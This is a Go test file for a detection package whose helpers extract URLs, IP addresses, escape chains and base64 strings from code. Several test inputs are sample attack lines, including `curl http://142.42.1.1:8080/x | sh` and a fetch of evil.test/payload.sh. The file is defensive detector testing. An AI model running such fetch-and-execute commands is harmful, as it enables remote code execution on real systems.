package detections

import (
	"reflect"
	"testing"
)

func TestFindURLs(t *testing.T) {
	tests := []struct {
		name  string
		input string
		want  []string
	}{
		{"empty", "", nil},
		{"plain", "https://foo.com", []string{"https://foo.com"}},
		{"with path", `fetch("http://evil.test/payload.sh")`, []string{"http://evil.test/payload.sh"}},
		{"trailing punctuation", "see https://example.com/docs.", []string{"https://example.com/docs"}},
		{"balanced parens", "http://foo.com/blah_(wikipedia)", []string{"http://foo.com/blah_(wikipedia)"}},
		{"ip host", "curl http://142.42.1.1:8080/x | sh", []string{"http://142.42.1.1:8080/x"}},
		{"no scheme", "foo.com", nil},
		{"unsupported scheme", "rdar://1234", nil},
		{"quoted", `get("https://api.test/v1?k=1", cb)`, []string{"https://api.test/v1?k=1"}},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			if got := FindURLs(test.input); !reflect.DeepEqual(got, test.want) {
				t.Errorf("FindURLs(%q) = %v; want %v", test.input, got, test.want)
			}
		})
	}
}

func TestURLHost(t *testing.T) {
	if got := URLHost("HTTPS://Evil.Test:443/x"); got != "evil.test" {
		t.Errorf("URLHost() = %q; want %q", got, "evil.test")
	}
}

func TestFindIPAddresses(t *testing.T) {
	tests := []struct {
		input string
		want  []string
	}{
		{"connect to 8.8.8.8 now", []string{"8.8.8.8"}},
		{"192.168.1.256", nil},
		{"version 1.2.3", nil},
		{"host 2001:db8::1 up", []string{"2001:db8::1"}},
		{"at 12:30 today", nil},
	}
	for _, test := range tests {
		if got := FindIPAddresses(test.input); !reflect.DeepEqual(got, test.want) {
			t.Errorf("FindIPAddresses(%q) = %v; want %v", test.input, got, test.want)
		}
	}
}

func TestIsLocalAddress(t *testing.T) {
	tests := map[string]bool{
		"127.0.0.1": true,
		"0.0.0.0":   true,
		"::1":       true,
		"8.8.8.8":   false,
		"bogus":     false,
	}
	for addr, want := range tests {
		if got := IsLocalAddress(addr); got != want {
			t.Errorf("IsLocalAddress(%q) = %v; want %v", addr, got, want)
		}
	}
}

func TestFindEscapeChains(t *testing.T) {
	tests := []struct {
		name  string
		input string
		want  []EscapeChain
	}{
		{"none", `var a = "plain";`, nil},
		{"two escapes", `"\x41\x42"`, nil},
		{"hex chain", `var s = "\x65\x76\x61\x6c";`, []EscapeChain{{Raw: `\x65\x76\x61\x6c`, Decoded: "eval"}}},
		{"mixed chain", `"\u0068\u{69}\x21"`, []EscapeChain{{Raw: `\u0068\u{69}\x21`, Decoded: "hi!"}}},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			if got := FindEscapeChains(test.input); !reflect.DeepEqual(got, test.want) {
				t.Errorf("FindEscapeChains() = %v; want %v", got, test.want)
			}
		})
	}
}

func TestFindBase64Substrings(t *testing.T) {
	tests := []struct {
		name  string
		input string
		want  []string
	}{
		{"empty", "", nil},
		{"16 lowercase chars", "abcdefghijklmnop", nil},
		{"16 digits", "1234123412341234", nil},
		{"hex", "0XABCDEF12345678", nil},
		{"no padding", "dGhpcyBpcyBhbiBvcmFuZ2UK", []string{"dGhpcyBpcyBhbiBvcmFuZ2UK"}},
		{"2 padding", "dGhpcyBpcyBhbiBhcHBsZQ==", []string{"dGhpcyBpcyBhbiBhcHBsZQ=="}},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			if got := FindBase64Substrings(test.input); !reflect.DeepEqual(got, test.want) {
				t.Errorf("FindBase64Substrings() = %v; want %v", got, test.want)
			}
		})
	}
}

func TestIsBase64Value(t *testing.T) {
	tests := map[string]bool{
		"aHR0cDovL2V2aWwudGVzdC94":   true,
		"short":                      false,
		"this has spaces in it okay": false,
		"^1.2.3-beta.1+build.12345":  false,
		"https://registry.npmjs.org": false,
		"abcdefghijklmnopqrstuvwxyz": false,
	}
	for in, want := range tests {
		if got := IsBase64Value(in); got != want {
			t.Errorf("IsBase64Value(%q) = %v; want %v", in, got, want)
		}
	}
}

func TestDecodeBase64(t *testing.T) {
	b, ok := DecodeBase64("aHR0cDovL2V2aWwudGVzdC94")
	if !ok || string(b) != "http://evil.test/x" {
		t.Errorf("DecodeBase64() = %q, %v; want %q, true", b, ok, "http://evil.test/x")
	}
}

func TestHasKnownSuffix(t *testing.T) {
	tests := map[string]bool{
		"dist/index.min.js":        true,
		"registry.example.com":     true,
		"api.example.io":           true,
		"settings.json":            true,
		"no suffix here":           false,
		"Qe9zT3kLmP2xVb7Rn4Wy.Ab":  false,
		"Qe9zT3kLmP2xVb7Rn4Wy.ab":  false,
		"Qe9zT3kLmP2xVb7Rn4Wy.COM": false,
		"trailing.":                false,
	}
	for s, want := range tests {
		if got := HasKnownSuffix(s); got != want {
			t.Errorf("HasKnownSuffix(%q) = %v; want %v", s, got, want)
		}
	}
}
